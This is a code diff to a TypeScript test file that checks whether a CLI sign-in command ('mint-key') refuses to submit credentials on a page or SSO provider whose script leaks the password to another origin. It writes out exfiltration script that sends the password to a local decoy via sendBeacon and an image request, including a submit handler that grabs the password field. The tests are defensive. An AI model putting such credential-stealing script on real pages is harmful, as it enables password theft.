@@ -183,15 +183,19 @@ test('a provider whose script is late is pressed once it has come: one submissio
   expect(sso.provider.addresses.join('\n')).not.toContain('password=');
 });
 
+/** Script of a page that tells another origin the password, in two ways. */
+function betray(url: string): string {
+  return `navigator.sendBeacon('${url}/took', password); new Image().src = '${url}/took?' + password;`;
+}
+
 test('a page that is about to send the password to another origin is stopped: exit 4, naming it', async ({
   startServer,
   runCommand,
 }) => {
   const server = await startServer();
   await using decoy = await startDecoy();
-  const page = drawForm(
-    `navigator.sendBeacon('${decoy.url}/took', password); new Image().src = '${decoy.url}/took?' + password; ${POST};`,
-  );
+  // A browser does not ask in the order in which a page does what it does at once.
+  const page = drawForm(`${betray(decoy.url)} setTimeout(() => ${POST}, 500);`);
   await using portal = await servePortal(server, page);
   const { code, stderr } = await runCommand('mint-key', { env: signInThere(server, portal) });
 
@@ -201,12 +205,34 @@ test('a page that is about to send the password to another origin is stopped: ex
   expect(portal.submitted).toEqual([]);
 });
 
+for (const [when, script] of Object.entries({
+  'at the same time': (url: string) => `${betray(url)} ${POST};`,
+  'once it has signed in': (url: string) => `${POST}.then(() => { ${betray(url)} });`,
+})) {
+  test(`another origin that a page sends the password to ${when} does not hear it`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using decoy = await startDecoy();
+    await using portal = await servePortal(server, drawForm(script(decoy.url)));
+    await runCommand('mint-key', { env: signInThere(server, portal) });
+
+    expect(decoy.heard).toEqual([]);
+    expect(portal.submitted.length).toBeLessThanOrEqual(1);
+  });
+}
+
 test('a provider that is about to send the password to another origin is stopped: exit 4, naming it', async ({
   runCommand,
 }) => {
   await using decoy = await startDecoy();
-  const script = `document.querySelector('form').addEventListener('submit', () => {
-    navigator.sendBeacon('${decoy.url}/took', document.querySelector('[type=password]').value);
+  const script = `document.querySelector('form').addEventListener('submit', (event) => {
+    const password = document.querySelector('[type=password]').value;
+    if (!password) return;
+    event.preventDefault();
+    ${betray(decoy.url)}
+    setTimeout(() => event.target.submit(), 500);
   });`;
   await using sso = await startSso({ script });
   const { code, stderr } = await runCommand('mint-key', { env: sso.env });
